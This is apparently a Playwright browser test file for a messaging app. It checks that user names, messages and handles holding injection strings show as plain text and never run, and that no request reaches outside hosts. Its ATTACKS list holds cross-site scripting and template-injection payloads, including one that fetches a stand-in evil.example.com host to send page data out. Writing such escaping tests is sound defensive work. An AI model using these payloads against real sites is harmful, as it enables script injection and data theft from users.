"""Text is text: what people write, and what they are called, never becomes markup or runs."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from tests.browser.people import People
from tests.browser.town import Town

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(300)]

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=fetch('//evil.example.com/'+document.title)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "</span></button><a href=javascript:alert(1)>click</a>",
    "<link rel=stylesheet href=//evil.example.com/x.css>",
    "javascript:alert(1)",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
    "&lt;b&gt; &amp; \u202egnp.exe",
]


@pytest.fixture(autouse=True)
def nobody_else_is_asked(people: People, town: Town) -> Iterator[None]:
    """Dialogs, errors and what the page's policy keeps away fail any test here; and no request goes out elsewhere."""
    yield
    ours = (town.app.url, town.settings.endpoint or "", "data:")
    assert not [url for url in people.asked if not url.startswith(ours)]


def test_a_name_is_shown_as_it_is(people: People, town: Town) -> None:
    """In the list, as heading, beside a message, to whoever bears it; and a preview in the list."""
    (ben, his), (_, hers) = people.arrive("Ben", ATTACKS[0])
    hers.begin(ben.handle, ATTACKS[0])
    for attack in ATTACKS[1:]:
        with town.voice(people.new(attack)) as voice:
            voice.say(attack, to=ben)
    his.expect_list(*reversed(ATTACKS))
    expect(his.list.locator(".preview")).to_have_text(ATTACKS[::-1])
    for attack in ATTACKS:
        his.list.get_by_role("listitem").nth(ATTACKS[::-1].index(attack)).get_by_role("button").click()
        expect(his.title).to_have_text(attack)
        expect(his.log.locator("[data-uuid] .who")).to_have_text(attack)
    expect(hers.page.get_by_role("banner")).to_contain_text(ATTACKS[0])


def test_a_message_is_shown_as_it_is(people: People) -> None:
    """While it is sent, when it has arrived, in the editor, and in the dialog that asks before it is deleted."""
    (ben, his), (_, hers) = people.arrive("Ben", "Eve")
    hers.begin(ben.handle, ATTACKS[0])
    his.open("Eve")
    for attack in ATTACKS[1:]:
        hers.send(attack)
    for window in (hers, his):
        expect(window.texts).to_have_text(ATTACKS)
    for attack in ATTACKS:
        hers.deed(attack, "Edit").click()
        expect(hers.editor).to_have_value(attack)
        hers.button("Save").click()
        hers.deed(attack, "Delete").click()
        expect(hers.deletion.get_by_role("blockquote")).to_have_text(attack)
        hers.deletion.get_by_role("button", name="Cancel").click()


def test_a_handle_is_shown_as_it_is(people: People) -> None:
    """One that nobody has is refused; it stays what was typed."""
    [(_, hers)] = people.arrive("Ann")
    hers.troubles.expect("422")
    for attack in ATTACKS:
        hers.begin(attack, "Hello")
        expect(hers.beginning.get_by_role("alert")).not_to_be_empty()
        expect(hers.beginning.get_by_role("textbox", name="To")).to_have_value(attack)
        hers.beginning.get_by_role("button", name="Cancel").click()
